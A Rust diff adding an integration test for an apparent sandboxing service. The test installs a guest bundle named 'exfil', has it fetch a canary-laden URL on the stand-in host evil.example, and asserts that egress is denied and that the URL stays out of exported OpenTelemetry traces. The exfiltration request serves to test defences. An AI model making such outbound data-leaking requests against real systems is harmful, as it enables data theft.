@@ -384,3 +384,177 @@ fn the_audit_key_rotates_and_verify_follows_it_from_the_pinned_key() {
         stdout(&out)
     );
 }
+
+/// An OTLP/HTTP receiver on loopback: every request body posted to `/v1/traces`, as JSON.
+struct Collector {
+    addr: std::net::SocketAddr,
+    received: std::sync::Arc<std::sync::Mutex<Vec<Value>>>,
+}
+
+impl Collector {
+    async fn start() -> Self {
+        use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+        let listener = tokio::net::TcpListener::bind("127.0.0.1:0")
+            .await
+            .expect("bound");
+        let addr = listener.local_addr().expect("address");
+        let received = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
+        let kept = received.clone();
+        tokio::spawn(async move {
+            while let Ok((mut stream, _)) = listener.accept().await {
+                let kept = kept.clone();
+                tokio::spawn(async move {
+                    let mut bytes = Vec::new();
+                    let mut chunk = [0u8; 65536];
+                    // The head, then as much body as its Content-Length says.
+                    let (head_end, length) = loop {
+                        let n = stream.read(&mut chunk).await.unwrap_or(0);
+                        if n == 0 {
+                            return;
+                        }
+                        bytes.extend_from_slice(&chunk[..n]);
+                        if let Some(at) = bytes.windows(4).position(|w| w == b"\r\n\r\n") {
+                            let head = String::from_utf8_lossy(&bytes[..at]).to_lowercase();
+                            assert!(head.starts_with("post /v1/traces "), "{head}");
+                            let length = head
+                                .lines()
+                                .find_map(|l| l.strip_prefix("content-length:"))
+                                .and_then(|v| v.trim().parse::<usize>().ok())
+                                .expect("a length");
+                            break (at + 4, length);
+                        }
+                    };
+                    while bytes.len() < head_end + length {
+                        let n = stream.read(&mut chunk).await.unwrap_or(0);
+                        if n == 0 {
+                            return;
+                        }
+                        bytes.extend_from_slice(&chunk[..n]);
+                    }
+                    let body = serde_json::from_slice(&bytes[head_end..head_end + length])
+                        .expect("an OTLP JSON export");
+                    kept.lock().expect("lock").push(body);
+                    let _ = stream
+                        .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\n{}")
+                        .await;
+                });
+            }
+        });
+        Self { addr, received }
+    }
+
+    /// Every span exported so far, with its resource's `service.name`.
+    fn spans(&self) -> Vec<Value> {
+        let mut spans = Vec::new();
+        for export in self.received.lock().expect("lock").iter() {
+            for resource in export["resourceSpans"].as_array().into_iter().flatten() {
+                for scope in resource["scopeSpans"].as_array().into_iter().flatten() {
+                    spans.extend(scope["spans"].as_array().into_iter().flatten().cloned());
+                }
+            }
+        }
+        spans
+    }
+}
+
+/// A span's attribute, as its OTLP JSON value.
+fn attribute<'a>(span: &'a Value, key: &str) -> &'a Value {
+    span["attributes"]
+        .as_array()
+        .and_then(|a| a.iter().find(|kv| kv["key"] == key))
+        .map_or(&Value::Null, |kv| &kv["value"])
+}
+
+#[tokio::test]
+async fn traces_follow_the_callers_trace_into_the_invocation_and_its_egress() {
+    const CANARY: &str = "canary-7f1e-trace";
+    let op = Operator::new();
+    let collector = Collector::start().await;
+    let endpoint = format!("http://{}", collector.addr);
+    let server = Server::start(&op, &[], &["--otlp-endpoint", &endpoint]);
+    let digest = server.upload(&op.exfil("0.1.0", "")).await;
+    let key = server
+        .tenant(
+            "acme",
+            &["invoke", "installations:read", "installations:write"],
+        )
+        .await;
+    let installed = server
+        .post("/v1/installations", &key, json!({"bundle": digest}))
+        .await;
+    assert_eq!(installed.status, StatusCode::CREATED, "{}", installed.body);
+
+    let trace = "4bf92f3577b34da6a3ce929d0e0e4736";
+    let caller = "00f067aa0ba902b7";
+    let reply = server
+        .http
+        .post(format!(
+            "{}/v1/installations/exfil/actions/fetch",
+            server.base
+        ))
+        .bearer_auth(&key)
+        .header("traceparent", format!("00-{trace}-{caller}-01"))
+        .header("content-type", "application/json")
+        .body(json!({"url": format!("https://evil.example/{CANARY}?q={CANARY}")}).to_string())
+        .send()
+        .await
+        .expect("answered");
+    assert_eq!(reply.status(), StatusCode::OK);
+
+    let until = Instant::now() + Duration::from_secs(20);
+    let spans = loop {
+        let spans = collector.spans();
+        if spans.iter().any(|s| s["name"] == "egress") || Instant::now() > until {
+            break spans;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    };
+    let named = |name: &str| {
+        spans
+            .iter()
+            .find(|s| s["name"] == name && s["traceId"] == trace)
+            .unwrap_or_else(|| panic!("no {name} span of the caller's trace in {spans:#?}"))
+    };
+    let request = named("api.request");
+    assert_eq!(request["parentSpanId"], caller);
+    assert_eq!(
+        attribute(request, "http.route")["stringValue"],
+        "/v1/installations/{installation}/actions/{action}"
+    );
+    assert_eq!(
+        attribute(request, "http.response.status_code")["intValue"],
+        "200"
+    );
+    let invocation = named("invocation");
+    assert_eq!(invocation["parentSpanId"], request["spanId"]);
+    assert_eq!(
+        attribute(invocation, "airlock.tenant")["stringValue"],
+        "acme"
+    );
+    assert_eq!(
+        attribute(invocation, "airlock.action")["stringValue"],
+        "fetch"
+    );
+    assert_eq!(
+        attribute(invocation, "airlock.outcome")["stringValue"],
+        "ok"
+    );
+    let run = named("guest.run");
+    assert_eq!(run["parentSpanId"], invocation["spanId"]);
+    let egress = named("egress");
+    assert_eq!(egress["parentSpanId"], run["spanId"]);
+    assert_eq!(
+        attribute(egress, "airlock.egress.decision")["stringValue"],
+        "denied"
+    );
+    assert_eq!(
+        attribute(egress, "http.request.method")["stringValue"],
+        "GET"
+    );
+    named("instantiate");
+    named("audit.append");
+    // Metadata only: the URL the guest asked for, path and query, is in no export.
+    let exported = serde_json::to_string(&*collector.received.lock().expect("lock")).expect("JSON");
+    assert!(!exported.contains(CANARY), "{exported}");
+    server.stop();
+}
